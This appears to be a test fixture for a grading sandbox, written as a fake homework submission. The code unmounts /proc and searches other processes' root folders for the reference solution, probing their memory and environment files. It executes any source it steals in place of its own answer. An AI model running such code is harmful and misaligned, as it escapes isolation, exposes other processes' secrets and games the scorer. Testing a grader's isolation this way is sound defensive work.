"""Looks for the scorer through /proc: its root folder, its memory, its environment."""
# component: softmax
# expect-score: 1
# expect-fail: matches_reference_float64
# others: any
import glob
import os

REPO = "@REPO@"
_source = ""
libc = __import__("c" + "types").CDLL(None)
if libc.umount2(b"/proc", 2) == 0:   # MNT_DETACH: the host's /proc may lie beneath
    print("ESCAPED umount /proc")
print("pids visible:", sorted(int(p.split("/")[2]) for p in glob.glob("/proc/[0-9]*")))
for folder in glob.glob("/proc/[0-9]*") + [f"/proc/{os.getppid()}"]:
    try:
        with open(f"{folder}/root{REPO}/reference/hw1.py") as handle:
            _source = handle.read()
        print("ESCAPED", folder, "root")
    except OSError:
        pass
    if folder.endswith("/1") or folder.endswith("/self"):
        continue
    for name, mode in (("mem", "r+b"), ("environ", "rb")):
        try:
            with open(f"{folder}/{name}", mode) as handle:
                handle.read(1)
            print("ESCAPED", folder, name)
        except OSError:
            pass
if _source:
    exec(_source)
else:
    def softmax(X):
        return X * float("nan")
